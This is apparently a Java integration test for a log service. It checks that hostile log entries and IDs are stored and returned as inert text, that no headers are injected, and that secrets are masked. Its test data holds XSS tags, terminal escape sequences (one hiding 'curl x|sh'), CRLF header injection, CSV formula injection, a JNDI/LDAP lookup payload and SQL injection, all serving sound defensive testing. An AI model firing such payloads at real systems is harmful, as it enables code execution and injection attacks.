package tailrace.process;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.InputStream;
import java.net.Socket;
import java.net.http.HttpClient;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tailrace.model.StorableText;
import tailrace.postgres.TestDatabase;

/** Log content is hostile (SPEC 8): it comes back as the same text, and is nothing but text on every way. */
class HostileContentIT {
    /** A place where the JSON parser cannot help: controls that end lines, and what turns the direction of text. */
    private static final String FORBIDDEN_IN_OUTPUT =
            "[\\x00-\\x09\\x0b-\\x1f\\x7f-\\x9f\\u2028\\u2029\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]";

    private static final Map<String, String> HOSTILE = Map.ofEntries(
            Map.entry("script", "</script><script>alert(1)</script><img src=x onerror=alert(1)>"),
            Map.entry("ansi colour", "\u001b[31mred\u001b[0m \u001b[2J\u001b[H"),
            Map.entry("osc link", "\u001b]8;;http://x.invalid\u0007link\u001b]8;;\u001b\\"),
            Map.entry("osc clipboard", "\u001b]52;c;Y3VybCB4fHNo\u0007"),
            Map.entry("dcs", "\u001bP+q544e\u001b\\ \u001b[6n"),
            Map.entry("c1", "\u009b31m \u0090+q\u009c \u0085 \u009d52;c;eA==\u009c"),
            Map.entry("cr", "good\rbad"),
            Map.entry("lf", "good\nbad"),
            Map.entry("crlf", "good\r\nX-Evil: a=b\r\n\r\n<html>"),
            Map.entry("nul", "a\u0000b"),
            Map.entry("separators", "a\u2028b\u2029c"),
            Map.entry("bidi", "user\u202egnp.exe\u202c \u2066x\u2069 \u200f \u200e \u061c"),
            Map.entry("zero width", "pass\u200bword \ufeff \u200d"),
            Map.entry("lone surrogates", "a\ud800b\udc00c"),
            Map.entry("no space", "w".repeat(9_000)),
            Map.entry("sse", "\n\ndata: x\nid: 9999\nevent: y\nretry: 1\n\n: z"),
            Map.entry("sse cr", "\r\rdata: x\rid: 9999\r\r"),
            Map.entry("csv", "=cmd|' /C calc'!A0"),
            Map.entry("format", "%s%n ${jndi:ldap://x.invalid/a} {} $1 \\1"),
            Map.entry("sql", "'; DROP TABLE logs; -- $$"));

    private static TestDatabase database;
    private static ServerProcess server;
    private static Api api;

    @TempDir
    static Path temp;

    @BeforeAll
    static void start() throws Exception {
        database = TestDatabase.empty();
        server = ServerProcess.in(temp.resolve("data"))
                .env("DATABASE_URL", database.urlText())
                .env("LOG_PERSIST", "all")
                .env("LOG_LEVEL", "debug")
                .start();
        api = new Api(server.base(), ServerProcess.serviceToken());
    }

    @AfterAll
    static void stop() throws Exception {
        server.close();
        database.close();
    }

    /** The text in every field that takes one, as far as the entry's limit lets it. */
    private static ObjectNode entry(String hostile) {
        ObjectNode entry = Api.JSON.createObjectNode().put("message", "m" + hostile);
        if (hostile.length() > 1_000) {
            return entry;
        }
        entry.put("user_friendly_message", "f" + hostile).put("stack_trace", hostile);
        for (String name : List.of("error_code", "node_id", "node_name", "node_type", "parent_node_id")) {
            entry.put(name, hostile);
        }
        entry.putObject("data").put(hostile, hostile).putArray("list").add(hostile);
        entry.putObject("technical_details").put("t", hostile);
        entry.put("unknown", hostile);
        return entry;
    }

    private static void post(String execution, String hostile) throws Exception {
        // Lone surrogates survive only as escapes
        String json = Api.JSON
                .writer()
                .with(com.fasterxml.jackson.core.json.JsonWriteFeature.ESCAPE_NON_ASCII.mappedFeature())
                .writeValueAsString(List.of(entry(hostile)));
        Api.Answer answer = api.post("/v2/executions/" + Api.encode(execution) + "/logs", json);
        assertThat(answer.status()).as("%s: %s", execution, answer.body()).isEqualTo(202);
    }

    private static void requireSame(String hostile, JsonNode told) {
        String text = StorableText.of(hostile);
        boolean all = hostile.length() <= 1_000;
        assertThat(told.get(all ? "raw_message" : "message").asText()).isEqualTo("m" + text);
        if (!all) {
            return;
        }
        assertThat(told.get("message").asText()).isEqualTo("f" + text);
        for (String name :
                List.of("stack_trace", "error_code", "node_id", "node_name", "node_type", "parent_node_id")) {
            assertThat(told.get(name).asText()).as(name).isEqualTo(text);
        }
        assertThat(told.get("data").get(text).asText()).isEqualTo(text);
        assertThat(told.get("data").get("list").get(0).asText()).isEqualTo(text);
        assertThat(told.get("data").get("_extra").get("unknown").asText()).isEqualTo(text);
        assertThat(told.get("technical_details").get("t").asText()).isEqualTo(text);
    }

    @Test
    void itComesBackAsTheSameTextAndBreaksNoFrame() throws Exception {
        List<String> texts = List.copyOf(HOSTILE.values());
        for (String text : texts) {
            post("content", text);
        }

        // From the journal
        List<JsonNode> hot = api.history("content");
        for (int i = 0; i < texts.size(); i++) {
            requireSame(texts.get(i), hot.get(i));
        }
        requireHarmless(raw("/v2/workflows/executions/content/logs?limit=1000"));

        // Live: one frame an entry, and none that nobody sent
        String stream = raw("/v2/executions/content/logs/stream?follow=false");
        requireHarmless(stream);
        List<String> frames = Arrays.stream(stream.split("\n\n"))
                .filter(frame -> !frame.startsWith(":") && !frame.startsWith("retry:"))
                .toList();
        assertThat(frames).hasSize(texts.size());
        for (int i = 0; i < texts.size(); i++) {
            String[] lines = frames.get(i).split("\n");
            assertThat(lines).hasSize(3);
            assertThat(lines[0]).isEqualTo("id: " + (i + 1));
            assertThat(lines[1]).isEqualTo("event: message");
            requireSame(
                    texts.get(i),
                    Api.JSON.readTree(lines[2].substring("data: ".length())).get("data"));
        }

        // From PostgreSQL
        Await.until("all rows", () -> ColdRows.of(database).of("content").size() >= texts.size());
        try (var connection = java.sql.DriverManager.getConnection(
                        jdbc(), database.url().user(), database.url().password().value());
                var rows = connection
                        .createStatement()
                        .executeQuery(
                                "SELECT seq, message, user_friendly_message, node_name, data->'list'->>0"
                                        + " FROM tailrace.workflow_execution_logs WHERE execution_id = 'content' ORDER BY seq")) {
            for (String text : texts) {
                assertThat(rows.next()).isTrue();
                assertThat(rows.getString(2)).isEqualTo("m" + StorableText.of(text));
                if (text.length() <= 1_000) {
                    assertThat(rows.getString(3)).isEqualTo("f" + StorableText.of(text));
                    assertThat(rows.getString(4)).isEqualTo(StorableText.of(text));
                    assertThat(rows.getString(5)).isEqualTo(StorableText.of(text));
                }
            }
        }
    }

    private static String jdbc() {
        return "jdbc:postgresql://" + database.url().host() + ":"
                + database.url().port() + "/" + database.url().database() + "?sslmode=disable";
    }

    private static String raw(String path) throws Exception {
        return HttpClient.newHttpClient()
                .send(api.request(path).build(), BodyHandlers.ofString())
                .body();
    }

    private static void requireHarmless(String output) {
        assertThat(output.replaceAll(FORBIDDEN_IN_OUTPUT, "")).hasSameSizeAs(output);
    }

    @Test
    void namesAreTextToo() throws Exception {
        for (Map.Entry<String, String> each : HOSTILE.entrySet()) {
            String id = "id "
                    + each.getValue().substring(0, Math.min(200, each.getValue().length()));
            // A URL cannot carry lone surrogates
            String execution = each.getKey().equals("lone surrogates") ? "id lone \ufffd" : StorableText.of(id);
            post(execution, "x");
            String path = "/v2/executions/" + Api.encode(execution);
            var state = api.get(path);
            assertThat(state.status()).as(each.getKey()).isEqualTo(200);
            assertThat(state.body().get("execution_id").asText()).isEqualTo(execution);
            String stream = raw(path + "/logs/stream?follow=false");
            requireHarmless(stream);
            assertThat(stream.lines().filter(line -> line.startsWith("id: "))).hasSize(1);
            JsonNode event = Api.JSON.readTree(stream.lines()
                    .filter(line -> line.startsWith("data: "))
                    .findFirst()
                    .orElseThrow()
                    .substring(6));
            assertThat(event.get("session_id").asText()).isEqualTo(execution);
            // A problem quotes the id, and does not obey it
            var missing = api.get("/v2/executions/" + Api.encode("no " + execution));
            assertThat(missing.status()).isEqualTo(404);
            assertThat(missing.response().headers().map()).doesNotContainKeys("set-cookie", "x-evil");
            requireHarmless(missing.response().body());
        }
    }

    @Test
    void noHeaderIsMadeOfWhatIsSent() throws Exception {
        for (String value : List.of("a\tb", "\u009b31m", "x".repeat(200), "a\u00e9b")) {
            String head = head("GET /health HTTP/1.1\r\nHost: h\r\nX-Request-ID: " + value + "\r\ntraceparent: " + value
                    + "\r\nX-Trace-ID: " + value + "\r\nConnection: close\r\n\r\n");
            assertThat(head).startsWith("HTTP/1.1 200").doesNotContain(value);
        }
        // Bare CR, encoded line ends in the path, and in a parameter that errors quote
        for (String request : List.of(
                "GET /health HTTP/1.1\r\nHost: h\r\nX-Request-ID: a\rSet-Cookie: evil=1\r\nConnection: close\r\n\r\n",
                "GET /x%0d%0aSet-Cookie:%20evil=1 HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n",
                "GET /v2/executions?limit=%0d%0aSet-Cookie:%20evil=1 HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n")) {
            assertThat(head(request).toLowerCase(java.util.Locale.ROOT)).doesNotContain("\nset-cookie", "\rset-cookie");
        }
    }

    private static String head(String request) throws Exception {
        try (Socket socket = new Socket(server.base().getHost(), server.base().getPort())) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.UTF_8));
            socket.getOutputStream().flush();
            InputStream in = socket.getInputStream();
            String all = new String(in.readAllBytes(), StandardCharsets.ISO_8859_1);
            int end = all.indexOf("\r\n\r\n");
            return end < 0 ? all : all.substring(0, end);
        }
    }

    @Test
    void ourOwnLogAndOurToolsObeyNothing() throws Exception {
        String hostile = "a\u001b[2J\u009b31m\u202eb\r\n2026-01-01T00:00:00.000Z ERROR Root fake";
        api.nonsense().get("/v2/executions/" + Api.encode(hostile) + "?x=" + Api.encode(hostile));
        api.nonsense()
                .post(
                        "/v2/executions/" + Api.encode(hostile) + "/logs",
                        "[{\"message\":\"m\",\"level\":\"\\u001b[2J\\n\"}]");
        database.execute("INSERT INTO tailrace.log_inbox (entry) VALUES ('{\"execution_id\":\"e\",\"message\":\"m\","
                + "\"level\":\"password=hunter2 \\u001b[2J\\n2026 ERROR fake\"}')");
        Await.until("the row is refused", () -> server.output().contains("rows were refused"));

        String log = server.output();
        requireHarmless(log.replace("\t", ""));
        assertThat(log).doesNotContain("hunter2");
        assertThat(log.lines().filter(line -> line.startsWith("2026-01-01") || line.startsWith("2026 ERROR")))
                .isEmpty();

        // A command shows what a server says about it, in one line
        Map<String, String> environment =
                Map.of("TAILRACE_URL", server.base().toString(), "TAILRACE_TOKEN", ServerProcess.serviceToken());
        Process ingest = Cli.start(temp, environment, List.of("ingest", "tool"));
        ingest.getOutputStream()
                .write("{\"message\":\"m\",\"level\":\"\\u001b[2J\\u009b\\u202e\\npassword=hunter2\"}\n"
                        .getBytes(StandardCharsets.UTF_8));
        Cli.Result result = Cli.end(temp, ingest);
        assertThat(result.code()).isEqualTo(1);
        assertThat(result.err()).contains("rejected: ", "␛[2J").doesNotContain("hunter2");
        requireHarmless(result.err());
    }

    @Test
    void secretsAreMaskedOnEveryWayIn() throws Exception {
        String secret = "password=hunter2";
        String entry =
                "{\"execution_id\":\"secrets\",\"message\":\"" + secret + "\",\"data\":{\"api_key\":\"hunter2\"}}";
        assertThat(api.post(
                                "/v2/logs/batch",
                                "{\"defaults\":{\"stack_trace\":\"" + secret + "\"},\"entries\":[" + entry + "]}")
                        .status())
                .isEqualTo(202);
        assertThat(api.send(api.request("/v2/logs/batch")
                                .header("Content-Type", "application/x-ndjson")
                                .POST(BodyPublishers.ofString(entry + "\n")))
                        .status())
                .isEqualTo(202);
        database.execute("INSERT INTO tailrace.log_inbox (entry) VALUES ('" + entry + "')");
        database.execute("INSERT INTO tailrace.thread_logs (thread_id, message) VALUES ('secrets', '" + secret + "')");
        Process ingest = Cli.start(
                temp,
                Map.of("TAILRACE_URL", server.base().toString(), "TAILRACE_TOKEN", ServerProcess.serviceToken()),
                List.of("ingest", "secrets"));
        ingest.getOutputStream().write((secret + "\n").getBytes(StandardCharsets.UTF_8));
        assertThat(Cli.end(temp, ingest).code()).isZero();

        Await.until("all five are there", () -> api.history("secrets").size() == 5);
        List<String> shown = new ArrayList<>();
        for (JsonNode log : api.history("secrets")) {
            shown.add(log.get("message").asText());
            assertThat(log.toString()).doesNotContain("hunter2");
        }
        assertThat(shown).containsOnly("password=********");
        Await.until("all rows", () -> ColdRows.of(database).of("secrets").size() == 5);
        assertThat(database.number(
                        "SELECT count(*) FROM tailrace.workflow_execution_logs l WHERE l::text LIKE '%hunter2%'"))
                .isZero();
    }
}
